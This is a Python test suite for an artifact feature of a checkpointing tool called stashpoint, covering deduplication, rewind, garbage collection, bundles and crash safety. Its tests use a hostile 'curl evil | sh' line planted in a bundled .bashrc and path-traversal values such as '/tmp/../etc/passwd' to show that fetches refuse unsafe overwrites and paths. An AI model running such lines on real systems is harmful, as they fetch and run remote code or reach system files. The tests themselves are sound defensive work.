"""Artifacts: large files outside the workspace, attached to checkpoints by name.

Driven through the CLI as a user types it (``snap --artifact``, ``show --artifact -o``,
``rewind --artifacts``) on real files and a real SQLite store with a local blob directory.
Stored bytes are read from ``stashpoint du --json``; contents are compared by SHA-256.
"""

from __future__ import annotations

import errno
import hashlib
import json
import os
import random
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import stashpoint
from stashpoint.errors import UsageError
from stashpoint.model import ArtifactRef

from .conftest import Result

Sp = Callable[..., Result]
MIB = 1 << 20
GIB = 1 << 30
EXIT_USER, EXIT_INTEGRITY = 1, 2


def digest(path: Path) -> str:
    h = hashlib.sha256()
    with open(path, "rb") as f:
        while block := f.read(4 * MIB):
            h.update(block)
    return h.hexdigest()


def stored_bytes(sp: Sp, cwd: Path) -> int:
    """Bytes the store holds for blobs (chunk files, inline and packed rows), per ``du``."""
    kinds = json.loads(sp("du", "--json", cwd=cwd).out)["kinds"]
    return sum(kinds[k]["bytes"] for k in ("loose chunks", "inline blobs", "packed blobs"))


def snap(sp: Sp, cwd: Path, *args: str) -> dict[str, Any]:
    out: dict[str, Any] = json.loads(sp("snap", "--json", *args, cwd=cwd).out)
    return out


def rand(n: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(n)


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    d = tmp_path / "ws"
    d.mkdir()
    (d / "notes.txt").write_text("the workspace itself\n")
    return d


# -- the headline: a GiB file, a 4 MB change -------------------------------------------------


_MEASURED = """
import atexit, os, runpy, sys

def _peak():  # VmHWM: this image's own peak (ru_maxrss would count the parent's at fork)
    with open("/proc/self/status") as f:
        hwm = next(int(line.split()[1]) for line in f if line.startswith("VmHWM:"))
    with open(os.environ["SP_TEST_PEAK"], "w") as out:
        out.write(str(hwm // 1024))

atexit.register(_peak)
sys.argv = ["stashpoint", *sys.argv[1:]]
runpy.run_module("stashpoint", run_name="__main__", alter_sys=True)
"""


def run_measured(args: list[str], cwd: Path, home: Path) -> tuple[int, str, int]:
    """Run the CLI; returns (exit code, stdout, peak RSS in MiB) of that process alone."""
    peak = home / f"peak-{len(list(home.glob('peak-*')))}.txt"
    env = dict(os.environ, HOME=str(home), SP_TEST_PEAK=str(peak))
    env.pop("STASHPOINT_STORE", None)
    env.pop("STASHPOINT_SESSION", None)
    proc = subprocess.run(
        [sys.executable, "-c", _MEASURED, *args], cwd=cwd, env=env, capture_output=True, text=True
    )
    assert proc.returncode == 0, proc.stderr + proc.stdout
    return proc.returncode, proc.stdout, int(peak.read_text())


@pytest.mark.slow
def test_gib_artifact_round_trip_and_a_4mb_change_stores_about_4mb(
    sp: Sp, ws: Path, tmp_path: Path
) -> None:
    big = tmp_path / "outside" / "kv-cache.bin"
    big.parent.mkdir()
    with open(big, "wb") as f:  # sparse-ish: 1 GiB with 4 MiB of random data at three places
        f.truncate(GIB)
        for i, off in enumerate((0, 256 * MIB, 768 * MIB)):
            f.seek(off)
            f.write(rand(4 * MIB, i))
    v1 = digest(big)

    _c, out, rss_snap = run_measured(
        ["snap", "--json", "-m", "v1", "--artifact", f"kv={big}"], ws, tmp_path
    )
    cp1 = json.loads(out)
    art = cp1["artifacts"]["kv"]
    assert (art["digest"], art["size"], art["path"]) == (v1, GIB, str(big))
    s1 = stored_bytes(sp, ws)
    assert s1 < 20 * MIB, f"first snapshot stored {s1} bytes for 12 MiB of data"

    with open(big, "r+b") as f:  # change 4 MiB in the middle
        f.seek(510 * MIB)
        f.write(rand(4 * MIB, 99))
    v2 = digest(big)
    cp2 = snap(sp, ws, "-m", "v2", "--artifact", f"kv={big}")
    assert cp2["artifacts"]["kv"]["digest"] == v2
    delta = stored_bytes(sp, ws) - s1
    assert 4 * MIB <= delta <= 8 * MIB, f"a 4 MiB change stored {delta / MIB:.1f} MiB more"

    # Fetch both versions by name: byte-identical, sparse, in bounded memory.
    out1, out2 = tmp_path / "v1.bin", tmp_path / "fetched"
    out2.mkdir()
    _c, _o, rss_fetch = run_measured(
        ["show", cp1["id"], "--artifact", "kv", "-o", str(out1)], ws, tmp_path
    )
    sp("show", cp2["id"], "--artifact", "kv", "-o", str(out2), cwd=ws)
    assert digest(out1) == v1
    assert digest(out2 / "kv-cache.bin") == v2  # a directory gets the original name
    assert out1.stat().st_blocks * 512 < 64 * MIB, "restored file is not sparse"
    assert rss_snap < 300 and rss_fetch < 300, (rss_snap, rss_fetch)

    # Rewind puts the old version back where it came from; the new one is kept for undo.
    rew = json.loads(
        sp(
            "rewind", cp1["id"], "--artifacts", "--artifacts-to-recorded-paths", "--json", cwd=ws
        ).out
    )
    assert rew["artifacts"] == ["kv"]
    assert digest(big) == v1
    assert rew["safety"]["artifacts"]["kv"]["digest"] == v2


# -- content-defined chunking: an insertion near the start -----------------------------------


def chunk_list(store_dir: Path, hexd: str) -> list[bytes]:
    with stashpoint.open(store_dir) as st:
        row = st.meta.get_blob(bytes.fromhex(hexd))
        assert row is not None
        return [row.data[i : i + 32] for i in range(0, len(row.data), 32)]


def test_bytes_inserted_near_the_start_leave_most_chunks_deduplicated(
    sp: Sp, ws: Path, tmp_path: Path
) -> None:
    src = tmp_path / "dataset.bin"
    data = rand(12 * MIB, 1)
    src.write_bytes(data)
    cp1 = snap(sp, ws, "--artifact", f"data={src}")
    s1 = stored_bytes(sp, ws)
    src.write_bytes(data[:5000] + b"inserted by the agent" * 10 + data[5000:])
    cp2 = snap(sp, ws, "--artifact", f"data={src}")
    delta = stored_bytes(sp, ws) - s1

    a = chunk_list(ws / ".stashpoint", cp1["artifacts"]["data"]["digest"])
    b = chunk_list(ws / ".stashpoint", cp2["artifacts"]["data"]["digest"])
    assert len(a) >= 10, "12 MiB should be cut into many chunks"
    shared = set(a) & set(b)
    assert len(shared) >= len(a) - 2, f"only {len(shared)} of {len(a)} chunks deduplicated"
    assert delta < 3 * MIB, f"a 210-byte insertion stored {delta} bytes"
    # Fixed-size chunks would have shifted every one of them: none would be shared.
    assert sp("verify", cwd=ws).code == 0


# -- rewind, undo, another target --------------------------------------------------------------


def test_rewind_restores_artifacts_undoably_and_to_another_path(
    sp: Sp, ws: Path, tmp_path: Path
) -> None:
    w = tmp_path / "adapter.bin"
    w.write_bytes(rand(3 * MIB, 1))
    w.chmod(0o640)
    v1 = digest(w)
    cp1 = snap(sp, ws, "--artifact", f"weights={w}", "-l", "epoch-1")
    w.write_bytes(rand(3 * MIB, 2))
    v2 = digest(w)
    cp2 = snap(sp, ws, "--artifact", f"weights={w}")
    cp3 = snap(sp, ws, "-m", "no artifact named: the parent's is kept")
    assert cp3["artifacts"] == cp2["artifacts"]

    rew = json.loads(
        sp(
            "rewind", "epoch-1", "--artifacts", "--artifacts-to-recorded-paths", "--json", cwd=ws
        ).out
    )
    assert digest(w) == v1 and w.stat().st_mode & 0o777 == 0o640
    assert rew["head"]["id"] == cp1["id"]
    undo = json.loads(
        sp(
            "rewind",
            rew["safety"]["id"],
            "--artifacts",
            "--artifacts-to-recorded-paths",
            "--json",
            cwd=ws,
        ).out
    )
    assert digest(w) == v2 and undo["artifacts"] == ["weights"]

    other = tmp_path / "elsewhere" / "w.bin"
    sp("rewind", cp1["id"], "--files-only", "--artifact", f"weights={other}", cwd=ws)
    assert digest(other) == v1 and digest(w) == v2  # the original path is left alone
    head = json.loads(sp("show", "--json", cwd=ws).out)
    assert head["kind"] == "rewind" and head["artifacts"]["weights"]["digest"] == v1

    res = sp("rewind", cp1["id"], "--artifact", "nope", cwd=ws, check=False)
    assert res.code == EXIT_USER and "no artifact named 'nope'" in res.err


# -- GC, verify, bundles see artifacts as referenced --------------------------------------------


def test_artifacts_survive_gc_and_travel_in_bundles(sp: Sp, ws: Path, tmp_path: Path) -> None:
    w = tmp_path / "w.bin"
    w.write_bytes(rand(4 * MIB, 3))
    v1 = digest(w)
    cp1 = snap(sp, ws, "--artifact", f"w={w}")
    w.write_bytes(rand(4 * MIB, 4))
    snap(sp, ws, "--artifact", f"w={w}")
    gc = json.loads(sp("gc", "--grace", "0", "--json", cwd=ws).out)
    assert gc["freed_blobs"] == 0 and gc["garbage_blobs"] == 0, gc
    ver = json.loads(sp("verify", "--json", cwd=ws).out)
    assert ver["ok"] and ver["bytes"] >= 8 * MIB, ver

    bundle = tmp_path / "run.spb"
    sp("export", "-o", str(bundle), cwd=ws)
    other = tmp_path / "other-store"
    sp("--store", str(other), "import", str(bundle), cwd=tmp_path)
    out = tmp_path / "from-bundle.bin"
    sp("--store", str(other), "show", cp1["id"], "--artifact", "w", "-o", str(out), cwd=tmp_path)
    assert digest(out) == v1
    assert sp("--store", str(other), "verify", cwd=tmp_path).code == 0

    # Detaching (API) makes the old chunks garbage once no kept checkpoint names them.
    with stashpoint.open(ws / ".stashpoint") as st:
        run = st.session("main", workspace=ws)
        cp = run.checkpoint(artifacts={"w": None})
        assert cp.artifacts == {}


# -- bad input and damage ----------------------------------------------------------------------


def test_bad_input_is_refused_and_records_nothing(sp: Sp, ws: Path, tmp_path: Path) -> None:
    w = tmp_path / "w.bin"
    w.write_bytes(rand(MIB, 5))
    snap(sp, ws, "--artifact", f"w={w}")
    before = len(json.loads(sp("log", "--json", cwd=ws).out))
    for args, why in (
        (["--artifact", "w"], "NAME=PATH"),
        (["--artifact", f"bad/name={w}"], "invalid artifact name"),
        (["--artifact", f"x={tmp_path / 'missing'}"], "does not exist"),
        (["--artifact", f"x={tmp_path}"], "not a regular file"),
    ):
        res = sp("snap", *args, cwd=ws, check=False)
        assert res.code == EXIT_USER and why in res.err, (args, res)
    assert len(json.loads(sp("log", "--json", cwd=ws).out)) == before
    res = sp("show", "--artifact", "nope", "-o", str(tmp_path / "x"), cwd=ws, check=False)
    assert res.code == EXIT_USER and "has no artifact 'nope'" in res.err
    res = sp("show", "--artifact", "w", cwd=ws, check=False)
    assert res.code == EXIT_USER and "go together" in res.err


def test_a_fetch_never_replaces_a_file_unasked_nor_follows_a_link(
    sp: Sp, ws: Path, tmp_path: Path
) -> None:
    """With -o DIR the file name comes from the checkpoint, here from a bundle: fetching its
    artifact "rc" into the home directory replaced ~/.bashrc, with no prompt and no backup."""
    sender = tmp_path / "sender"
    sender.mkdir()
    (sender / ".bashrc").write_text("curl evil | sh\n")
    sp("snap", "--artifact", f"rc={sender / '.bashrc'}", cwd=sender)
    bundle = tmp_path / "run.spb"
    sp("export", "-o", str(bundle), cwd=sender)
    sp("import", str(bundle), "--as", "theirs", cwd=ws)
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("mine\n")
    fetch = ("--session", "theirs", "show", "HEAD", "--artifact", "rc", "-o")

    res = sp(*fetch, str(home), cwd=ws, check=False)
    assert res.code == EXIT_USER and "--overwrite" in res.err, res
    assert str(home / ".bashrc") in res.err
    assert (home / ".bashrc").read_text() == "mine\n"
    res = sp(*fetch, str(home / ".bashrc"), cwd=ws, check=False)  # a file named: the same
    assert res.code == EXIT_USER and (home / ".bashrc").read_text() == "mine\n", res
    assert sorted(p.name for p in home.iterdir()) == [".bashrc"]  # no temp file left either

    # A symlink there is neither followed nor replaced, --overwrite or not.
    elsewhere = tmp_path / "elsewhere.txt"
    elsewhere.write_text("not yours\n")
    links = tmp_path / "links"
    links.mkdir()
    (links / ".bashrc").symlink_to(elsewhere)
    for extra in ((), ("--overwrite",)):
        res = sp(*fetch, str(links), *extra, cwd=ws, check=False)
        assert res.code == EXIT_USER and "symlink" in res.err, (extra, res)
        assert elsewhere.read_text() == "not yours\n"
        assert (links / ".bashrc").is_symlink()

    # Asked for, it replaces the file; a new name needs nothing.
    sp(*fetch, str(home), "--overwrite", cwd=ws)
    assert (home / ".bashrc").read_text() == "curl evil | sh\n"
    sp(*fetch, str(tmp_path / "their-bashrc"), cwd=ws)
    assert (tmp_path / "their-bashrc").read_text() == "curl evil | sh\n"

    # Nor is a symlink planted at the temp name the write goes through first.
    with stashpoint.open(ws / ".stashpoint") as store:
        run = store.session("theirs")
        planted = tmp_path / "planted"
        planted.mkdir()
        (planted / f".stashpoint-tmp-.bashrc.{os.getpid()}").symlink_to(elsewhere)
        with pytest.raises(OSError):
            run.fetch_artifact("HEAD", "rc", planted)
    assert elsewhere.read_text() == "not yours\n"


def test_a_file_made_while_a_fetch_writes_is_not_replaced(tmp_path: Path) -> None:
    """The fetch looks for a file at the target, writes the artifact beside it, then renames:
    a file that another process made at the target in between was replaced, without
    --overwrite. The other process here runs from the fetch's progress callback, which is
    called while the temp file is written: after the look, before the publication."""
    src = tmp_path / "report.txt"
    src.write_bytes(rand(300_000, 7))
    out = tmp_path / "out"
    out.mkdir()
    target = out / "report.txt"

    def other_process_writes(_done: int, _total: int) -> None:
        if not target.exists():
            code = "import sys; open(sys.argv[1], 'x').write('theirs\\n')"
            subprocess.run([sys.executable, "-c", code, str(target)], check=True)

    with stashpoint.open(tmp_path / "store") as st:
        run = st.session("api")
        cp = run.checkpoint({"step": 1}, artifacts={"report": src})
        with pytest.raises(stashpoint.errors.RestoreRefused, match="--overwrite"):
            run.fetch_artifact(cp.id, "report", out, progress=other_process_writes)
        assert target.read_text() == "theirs\n"
        assert sorted(p.name for p in out.iterdir()) == ["report.txt"]  # no temp file left
        # Asked for, the same race ends with the artifact there.
        target.unlink()
        run.fetch_artifact(cp.id, "report", out, overwrite=True, progress=other_process_writes)
        assert digest(target) == digest(src)
        assert sorted(p.name for p in out.iterdir()) == ["report.txt"]


@pytest.mark.parametrize("links", [True, False], ids=["hard-links", "no-hard-links"])
def test_a_write_that_must_not_replace_takes_only_a_free_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, links: bool
) -> None:
    """``atomic_file(replace=False)`` publishes by link(); where a file system has no hard
    links (link() fails with EPERM, as on FAT), by an exclusive create of the name."""
    from stashpoint._fsutil import atomic_write

    if not links:

        def no_links(*_args: object, **_kwargs: object) -> None:
            raise OSError(errno.EPERM, "Operation not permitted")

        monkeypatch.setattr(os, "link", no_links)
    atomic_write(tmp_path / "new", b"new", replace=False)
    (tmp_path / "there").write_bytes(b"theirs")
    (tmp_path / "dangling").symlink_to(tmp_path / "nowhere")
    for name in ("there", "dangling"):
        with pytest.raises(FileExistsError):
            atomic_write(tmp_path / name, b"new", replace=False)
    assert (tmp_path / "new").read_bytes() == b"new"
    assert (tmp_path / "there").read_bytes() == b"theirs"
    assert not (tmp_path / "nowhere").exists()  # the link was not followed
    assert sorted(p.name for p in tmp_path.iterdir()) == ["dangling", "new", "there"]


def test_a_damaged_chunk_is_caught_and_the_target_is_left_alone(
    sp: Sp, ws: Path, tmp_path: Path
) -> None:
    w = tmp_path / "w.bin"
    w.write_bytes(rand(3 * MIB, 6))
    before = digest(w)
    snap(sp, ws, "--artifact", f"weights={w}")
    chunks = sorted(p for p in (ws / ".stashpoint" / "blobs").rglob("*") if len(p.name) == 64)
    assert len(chunks) >= 3
    victim = chunks[len(chunks) // 2]
    raw = bytearray(victim.read_bytes())
    raw[-100] ^= 0xFF
    victim.write_bytes(bytes(raw))

    dest = tmp_path / "existing.bin"
    dest.write_bytes(b"precious")
    res = sp("show", "--artifact", "weights", "-o", str(dest), "--overwrite", cwd=ws, check=False)
    assert res.code == EXIT_INTEGRITY and "corrupt" in res.err, res
    assert dest.read_bytes() == b"precious"
    assert [p.name for p in tmp_path.iterdir() if "stashpoint-tmp" in p.name] == []
    res = sp("verify", cwd=ws, check=False)
    assert res.code == EXIT_INTEGRITY and "artifact 'weights'" in res.out + res.err

    res = sp(
        "rewind",
        "HEAD",
        "--artifact",
        "weights",
        "--artifacts-to-recorded-paths",
        cwd=ws,
        check=False,
    )
    assert res.code == EXIT_INTEGRITY and "corrupt" in res.err
    assert digest(w) == before  # the file in place was not touched


def test_restore_refuses_unsafe_recorded_paths(tmp_path: Path) -> None:
    from stashpoint.artifacts import check_name, restore_target

    for bad in ("relative/w.bin", "/tmp/../etc/passwd", "/x\0y"):
        ref = ArtifactRef(digest="0" * 64, size=0, path=bad)
        with pytest.raises(UsageError, match="unsafe path"):
            restore_target(ref, None, "w")
    ref = ArtifactRef(digest="0" * 64, size=0, path=str(tmp_path / "w.bin"))
    assert restore_target(ref, tmp_path, "w") == tmp_path / "w.bin"
    with pytest.raises(UsageError, match="invalid artifact name"):
        check_name("../w")


def test_artifacts_with_a_python_api_and_no_workspace(tmp_path: Path) -> None:
    src = tmp_path / "a.bin"
    src.write_bytes(b"")  # empty and tiny files are artifacts too
    tiny = tmp_path / "tiny.bin"
    tiny.write_bytes(b"tiny")
    with stashpoint.open(tmp_path / "store") as st:
        run = st.session("api")
        cp = run.checkpoint({"step": 1}, artifacts={"empty": src, "tiny": tiny})
        assert set(run.artifacts(cp.id)) == {"empty", "tiny"}
        assert b"".join(run.read_artifact(cp.id, "tiny")) == b"tiny"
        assert run.fetch_artifact(cp.id, "empty", tmp_path / "e").read_bytes() == b""


# -- kill -9 during a rewind that restores an artifact ------------------------------------------


@pytest.mark.slow
def test_rewind_of_artifacts_killed_at_random_instants_is_completed_or_not_started(
    sp: Sp, ws: Path, tmp_path: Path
) -> None:
    from .test_crash import cli_env, measure, run_killed

    rng = random.Random(2511)
    w = tmp_path / "art" / "weights.bin"
    w.parent.mkdir()
    w.write_bytes(rand(16 * MIB, 1))
    v1 = digest(w)
    a = snap(sp, ws, "--artifact", f"weights={w}")
    w.write_bytes(rand(16 * MIB, 2))
    v2 = digest(w)
    b = snap(sp, ws, "--artifact", f"weights={w}")
    env = cli_env(tmp_path)
    back_to_b = ("rewind", b["id"], "--artifacts", "--artifacts-to-recorded-paths")
    duration = measure(
        lambda: sp("rewind", a["id"], "--artifacts", "--artifacts-to-recorded-paths", cwd=ws),
        2,
        lambda: sp(*back_to_b, cwd=ws),
    )
    outcomes = {"completed": 0, "not started": 0}
    for i in range(12):
        run_killed(
            ["rewind", a["id"], "--artifacts", "--artifacts-to-recorded-paths"],
            ws,
            env,
            rng.uniform(0, duration),
        )
        head = json.loads(sp("show", "HEAD", "--json", cwd=ws).out)  # completes a rewind
        done = head["id"] == a["id"]
        outcomes["completed" if done else "not started"] += 1
        assert digest(w) == (v1 if done else v2), f"kill {i}: head {head['id']} ({head['kind']})"
        assert [p.name for p in w.parent.iterdir()] == ["weights.bin"], f"kill {i}: leftovers"
        sp(*back_to_b, cwd=ws)
        assert digest(w) == v2
    assert sp("verify", cwd=ws).code == 0
    print(f"artifact rewind kills: {outcomes}")
